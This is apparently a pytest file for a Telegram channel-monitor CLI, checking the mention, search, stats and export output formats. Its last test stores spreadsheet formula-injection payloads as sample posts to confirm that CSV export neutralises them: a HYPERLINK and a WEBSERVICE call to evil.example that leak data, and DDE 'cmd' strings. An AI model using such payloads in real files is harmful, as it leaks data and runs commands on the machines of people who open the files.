"""The archive commands through click's CliRunner on both databases: every command and format."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from test_archive import T0, WATCHLIST, fill

from monitor.cli import main
from monitor.config import load_settings
from monitor.posts import Post
from monitor.runtime import open_runtime


@pytest.fixture
def cli(write_config: Callable[..., Path], db_url: str) -> Callable[..., Result]:
    """cli(*args) runs ``tgmonitor --config <filled archive> *args``."""
    path = write_config(WATCHLIST, db_url)

    async def setup() -> None:
        async with open_runtime(load_settings(path)) as rt:
            await fill(rt)

    asyncio.run(setup())
    runner = CliRunner()

    def invoke(*args: str) -> Result:
        return runner.invoke(main, ["--config", str(path), *args], catch_exceptions=False)

    return invoke


def jsonl(out: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def test_mentions_every_format(cli: Callable[..., Result]) -> None:
    r = cli("mentions", "--format", "jsonl")
    assert r.exit_code == 0, r.output
    rows = jsonl(r.output)
    assert len(rows) == 8
    assert set(rows[0]) == {"channel", "message_id", "date", "entity", "surface", "link", "snippet"}
    assert rows[0]["message_id"] == 11 and rows[0]["link"] == "https://t.me/birzha/11"
    r = cli("mentions", "--entity", "казатомпром", "--since", "2025-03-03", "--until", "2025-03-04",
            "--format", "json")
    assert r.exit_code == 0 and [d["message_id"] for d in json.loads(r.output)] == [2, 2, 1]
    r = cli("mentions", "--channel", "@birzha", "--format", "csv", "--limit", "2")
    table = list(csv.DictReader(io.StringIO(r.output)))
    assert [row["message_id"] for row in table] == ["11", "11"] and "**Газпром**" in table[0]["snippet"]
    r = cli("mentions", "--entity", "Газпром")
    assert r.exit_code == 0 and "https://t.me/delovoy/2" in r.output and "**Газпром**" in r.output
    assert len(r.output.splitlines()) == 5  # a header and four mentions


def test_search_every_format(cli: Callable[..., Result]) -> None:
    r = cli("search", "кислоты", "--format", "jsonl")
    assert r.exit_code == 0, r.output
    rows = jsonl(r.output)
    assert sorted(d["message_id"] for d in rows) == [1, 3, 4]  # type: ignore[type-var]
    assert set(rows[0]) == {"channel", "message_id", "date", "rank", "snippet", "link"}
    r = cli("search", '"серная кислота"', "--format", "json")
    assert sorted(d["message_id"] for d in json.loads(r.output)) == [1, 3]
    r = cli("search", "кислота", "-уран", "--format", "csv")  # -word works without quoting
    assert r.exit_code == 0, r.output
    assert [row["message_id"] for row in csv.DictReader(io.StringIO(r.output))] == ["4"]
    r = cli("search", "газпром", "--limit", "1")
    assert r.exit_code == 0 and "https://t.me/birzha/11" in r.output and len(r.output.splitlines()) == 2
    r = cli("search", "комбинат", "--format", "jsonl")
    assert r.exit_code == 0 and r.output == ""
    r = cli("search", "-уран")
    assert r.exit_code == 2 and "no word to find" in r.output


def test_stats_every_format_and_plot(cli: Callable[..., Result], tmp_path: Path) -> None:
    r = cli("stats")
    assert r.exit_code == 0, r.output
    assert "Казатомпром" in r.output and "Top channels" in r.output and "█" in r.output
    r = cli("stats", "--by", "week", "--format", "json")
    d = json.loads(r.output)
    assert d["by"] == "week" and d["periods"] == ["2025-03-03", "2025-03-10"]
    assert {e["entity"]: e["total"] for e in d["entities"]} == {"Казатомпром": 3, "Газпром": 2}
    r = cli("stats", "--entity", "Газпром", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert {(x["period"], x["channel"], x["mentions"]) for x in rows} == {
        ("2025-03-03", "@delovoy", "1"), ("2025-03-12", "@birzha", "1")}
    pytest.importorskip("matplotlib")
    png = tmp_path / "plot.png"
    r = cli("stats", "--by", "day", "--plot", str(png))
    assert r.exit_code == 0, r.output
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_export_rematch_reindex_and_errors(cli: Callable[..., Result]) -> None:
    r = cli("export", "--format", "jsonl")
    assert r.exit_code == 0, r.output
    rows = jsonl(r.output)
    assert [d["message_id"] for d in rows] == [1, 2, 3, 10, 4, 11, 12]
    assert rows[1]["entities"] == ["Газпром", "Казатомпром"] and len(rows[1]["matches"]) == 3  # type: ignore[arg-type]
    r = cli("export", "--entity", "Газпром", "--format", "csv")
    table = list(csv.DictReader(io.StringIO(r.output)))
    assert [x["message_id"] for x in table] == ["2", "11"] and table[0]["entities"] == "Газпром; Казатомпром"
    r = cli("export", "--matched", "--channel", "delovoy")
    assert [x["message_id"] for x in csv.DictReader(io.StringIO(r.output))] == ["1", "2"]
    r = cli("rematch", "--since", "2025-03-01")
    assert r.exit_code == 0 and "rematched 7 posts: 0 changed" in r.output
    r = cli("reindex")
    assert r.exit_code == 0 and ("indexed 0 posts" in r.output or "nothing to do" in r.output)
    r = cli("mentions", "--entity", "Роснефть")
    assert r.exit_code == 2 and "unknown entity 'Роснефть'" in r.output and "Traceback" not in r.output
    r = cli("stats", "--since", "вчера")
    assert r.exit_code == 2 and "is not a date" in r.output
    for cmd in ("mentions", "search", "stats", "export", "rematch", "reindex"):
        r = cli(cmd, "--help")
        assert r.exit_code == 0 and "Example" in r.output


TRICKY_POSTS: list[tuple[str, int, int, str]] = [
    ("delovoy", 1, 0, "Казатомпром\nсократит добычу урана"),  # a newline and no comma: must still be quoted
    ("delovoy", 2, 0, 'Газпром: «цены»; "прогноз", говорят,\r\nаналитики'),
    ("delovoy", 3, 1, "Строка один\n\nстрока три; Газпром"),
    ("birzha", 4, 2, 'Kazatomprom "quoted"\nand; semicolons, commas'),
    ("birzha", 5, 3, "без переносов, Газпром"),
]


def test_csv_quotes_newlines_quotes_commas_and_semicolons(write_config: Callable[..., Path], db_url: str) -> None:
    path = write_config(WATCHLIST, db_url)

    async def setup() -> None:
        async with open_runtime(load_settings(path)) as rt:
            await fill(rt, TRICKY_POSTS)

    asyncio.run(setup())
    runner = CliRunner()

    def cli(*args: str) -> str:
        r = runner.invoke(main, ["--config", str(path), *args], catch_exceptions=False)
        assert r.exit_code == 0, r.output
        return r.stdout_bytes.decode()  # r.output turns "\r\n" into "\n", even inside a quoted field

    texts = {(d["channel"], d["message_id"]): d["text"] for d in jsonl(cli("export", "--format", "jsonl"))}
    assert len(texts) == len(TRICKY_POSTS)
    out = cli("export", "--format", "csv")
    table = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(table) == len(TRICKY_POSTS)
    assert {(row["channel"], int(row["message_id"])): row["text"] for row in table} == texts
    assert all(None not in row and None not in row.values() for row in table)  # no short or long rows
    both = next(row for row in table if row["message_id"] == "2")
    assert both["entities"] == "Газпром" and '"прогноз", говорят,' in both["text"]
    for args, n in ((("mentions",), 5), (("search", "Газпром"), 3), (("stats", "--by", "day"), 5)):
        rows = list(csv.reader(io.StringIO(cli(*args, "--format", "csv"), newline="")))
        assert len(rows) == n + 1 and len({len(r) for r in rows}) == 1, rows
    mentions = list(csv.DictReader(io.StringIO(cli("mentions", "--format", "csv"), newline="")))
    assert {json.dumps(d, ensure_ascii=False) for d in mentions} == {
        json.dumps({k: str(v) for k, v in d.items()}, ensure_ascii=False)
        for d in jsonl(cli("mentions", "--format", "jsonl"))}


def test_tables_have_a_header_and_plurals(cli: Callable[..., Result]) -> None:
    r = cli("mentions", "--entity", "Газпром")
    lines = r.output.splitlines()
    assert lines[0].split() == ["DATE", "CHANNEL", "ENTITY", "CONTEXT", "LINK"] and len(lines) == 5
    assert lines[0].index("CHANNEL") == lines[1].index("@") and lines[0].index("LINK") == lines[1].index("https:")
    r = cli("search", "кислота")
    lines = r.output.splitlines()
    assert lines[0].split() == ["DATE", "CHANNEL", "SNIPPET", "LINK"] and len(lines) == 4
    assert {line.index("https:") for line in lines[1:]} == {lines[0].index("LINK")}
    r = cli("search", "комбинат")
    assert r.exit_code == 0 and r.stdout == ""  # no header over nothing
    assert "(1 month)" in cli("stats", "--by", "month", "--until", "2025-03-31").output
    assert "(2 weeks)" in cli("stats", "--by", "week").output
    assert "(1 week)" in cli("stats", "--by", "week", "--until", "2025-03-09").output


def test_alerts_list_table_has_a_header() -> None:
    from monitor.alerts.outbox import AlertRow
    from monitor.cli.alerts import alerts_table

    t = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)
    rows = [AlertRow(12345, "a1b2c3", "team-chat", "post", "failed", 3, "@delovoy", 2, ["Газпром"], [], t, None,
                     t, "boom\nat line 2"),
            AlertRow(7, "d4e5f6", "webhook", "incident", "sent", 1, None, None, [], [], t, t, t, None)]
    lines = alerts_table(rows).splitlines()
    assert lines[0].split() == ["ID", "CODE", "STATUS", "TRIES", "DESTINATION", "KIND", "WHEN", "WHERE", "ENTITIES"]
    assert len(lines) == 3 and "Газпром" in lines[1] and lines[1].endswith("  (boom at line 2)")
    for col in ("CODE", "STATUS", "DESTINATION", "WHEN", "WHERE"):
        assert lines[1][lines[0].index(col) - 2:lines[0].index(col)] == "  "
    assert lines[0].index("STATUS") == lines[1].index("failed") == lines[2].index("sent")
    assert lines[0].index("WHERE") == lines[1].index("@delovoy/2") == lines[2].index("-", lines[0].index("WHERE"))


def test_status_shows_configured_source_and_leases(write_config: Callable[..., Path], db_url: str) -> None:
    from monitor.cli.status import render_table

    path = write_config(WATCHLIST + '\n[[channels]]\nusername = "delovoy"\nsource = "web"\n', db_url)

    async def setup() -> None:
        async with open_runtime(load_settings(path)) as rt:  # as `import` leaves it: a "telethon" row
            await rt.store.upsert_channel(username="delovoy", tg_id=1000, title="Delovoy", source="telethon")
            await rt.store.upsert_channel(username="birzha", tg_id=1001, title="Birzha", source="telethon")

    asyncio.run(setup())
    r = CliRunner().invoke(main, ["--config", str(path), "status", "--format", "json"], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    doc = json.loads(r.output)
    assert {c["channel"]: c["source"] for c in doc["channels"]} == {"@delovoy": "web", "@birzha": "telethon"}
    r = CliRunner().invoke(main, ["--config", str(path), "status"], catch_exceptions=False)
    row = next(line for line in r.output.splitlines() if line.startswith("@delovoy"))
    assert row.split()[1] == "web" and "LEASE" not in r.output

    doc["channels"][0]["lease_owner"] = "host-a:4242"
    table = render_table(doc).splitlines()
    head = next(line for line in table if line.startswith("CHANNEL"))
    leased = next(line for line in table if "host-a:4242" in line)
    assert "LEASE" in head and leased.index("host-a:4242") == head.index("LEASE")
    assert next(line for line in table if line.startswith(doc["channels"][1]["channel"]))[head.index("LEASE")] == "-"


HOSTILE_POSTS = [
    ("delovoy", 1, 0, '=HYPERLINK("http://evil.example/?leak="&A1,"Газпром: подробности")'),
    ("delovoy", 2, 0, "+1+cmd|' /C calc'!A0 Газпром"),
    ("delovoy", 3, 1, "-2+3 Газпром"),
    ("birzha", 4, 2, "@SUM(1+1)*cmd|' /C calc'!A0 Газпром"),
    ("birzha", 5, 3, "\t=1+1 Газпром"),
    ("birzha", 6, 3, "\r=1+1 Газпром"),
    ("birzha", 7, 4, "Газпром: обычный текст, = в середине не опасен"),
]


def test_csv_cells_cannot_run_as_spreadsheet_formulas(write_config: Callable[..., Path], db_url: str) -> None:
    path = write_config(WATCHLIST, db_url)

    async def setup() -> None:
        async with open_runtime(load_settings(path)) as rt:
            await fill(rt, HOSTILE_POSTS)
            private = await rt.store.upsert_channel(tg_id=5555, title='=WEBSERVICE("http://evil.example/")')
            await rt.ingestor.ingest(private, [Post(message_id=8, date=T0, text="Газпром в закрытом канале")])

    asyncio.run(setup())

    def cli(*args: str) -> str:
        r = CliRunner().invoke(main, ["--config", str(path), *args], catch_exceptions=False)
        assert r.exit_code == 0, r.output
        return r.stdout_bytes.decode()

    texts = {d["message_id"]: d["text"] for d in jsonl(cli("export", "--format", "jsonl"))}
    assert texts[1].startswith("=HYPERLINK") and texts[5].startswith("\t")  # JSON keeps the exact text
    for args in (("export",), ("export", "--entity", "Газпром"), ("mentions",), ("search", "Газпром"),
                 ("stats", "--by", "day")):
        rows = list(csv.reader(io.StringIO(cli(*args, "--format", "csv"), newline="")))
        cells = [c for r in rows[1:] for c in r]
        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                              and c not in ("@delovoy", "@birzha")], (args, rows)
    table = {int(r["message_id"]): r for r in csv.DictReader(io.StringIO(cli("export", "--format", "csv"),
                                                                         newline=""))}
    for mid, text in texts.items():  # the neutralised cell is the text behind one apostrophe
        assert table[mid]["text"] == (text if mid in (7, 8) else "'" + text)
    assert table[1]["channel"] == "@delovoy"  # a plain @username is not a formula: left as it is
    assert table[8]["channel"] == "'=WEBSERVICE(\"http://evil.example/\")"  # a channel title is
    assert table[4]["channel"] == "@birzha"
